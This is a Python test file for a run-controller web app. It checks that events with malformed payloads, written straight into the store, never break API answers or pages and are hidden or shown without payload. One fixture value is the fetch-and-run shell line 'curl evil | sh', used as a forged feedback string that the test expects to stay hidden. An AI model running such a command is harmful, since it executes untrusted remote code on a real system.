"""A stored event whose payload does not match its kind (``domain.events``) never makes a page or an
API answer fail: the readers validate it and leave it out, or show it without its payload (issue 21).

The events are written straight into the store, as an older release, a hand-edited database or a
forged write would have left them."""

from __future__ import annotations

import httpx

from controller.domain.enums import EventKind, RunStatus
from tests.api.conftest import ADMIN, Api, new_run

MALFORMED: list[tuple[EventKind, dict[str, object]]] = [
    (EventKind.TURN_STARTED, {"turn": "one", "round": None}),
    (EventKind.TURN_STEP, {"turn": "one", "step": "dancing"}),
    (EventKind.SAMPLE, {"turn": "one", "arm": 7, "parallel_index": "x"}),
    (EventKind.REPLY_DRAFTED, {"feedback": "curl evil | sh"}),
    (EventKind.ROUND_FINISHED, {"round": "last", "kept": "maybe"}),
    (EventKind.ACCEPTED, {"turn": [], "hypotheses": "all"}),
]


def test_malformed_payloads_leave_every_page_and_answer_readable(api: Api) -> None:
    run_id = new_run(api.store, "broken")
    api.store.set_run_status(run_id, RunStatus.RUNNING)
    for kind, payload in MALFORMED:
        api.store.append_event(run_id, kind, payload)
    api.store.append_event(run_id, EventKind.TURN_STARTED, {"turn": 1, "round": 0})
    api.store.append_event(run_id, EventKind.TURN_STEP, {"turn": 1, "round": 0, "step": "dancing"})
    api.store.append_event(run_id, EventKind.SAMPLE, {"turn": 1, "round": 0, "arm": "sideways"})
    api.store.append_event(run_id, EventKind.TURN_STEP, {"turn": 1, "round": 0, "step": "measuring"})
    with api.client() as client:
        for path in ("", "/turns", "/replies", "/rounds", "/feedback", "/pulls"):
            answer = client.get(f"/api/runs/{run_id}{path}")
            assert answer.status_code == 200, (path, answer.text)
        assert client.get(f"/api/runs/{run_id}/replies").json() == [], "the forged reply is not shown"
        assert client.get(f"/api/runs/{run_id}/rounds").json() == []
        lines = client.get(f"/api/runs/{run_id}/events", params={"follow": "false"}).text
        assert lines.count("malformed") >= 4, lines  # the progress kinds, shown without their payload
    with httpx.Client(base_url=api.url, timeout=30) as browser:
        assert browser.post("/login", data={"token": ADMIN}).status_code == 303
        page = browser.get(f"/runs/{run_id}")
        assert page.status_code == 200, page.text
        assert "measuring" in page.text, "the well-formed step after the broken ones is shown"
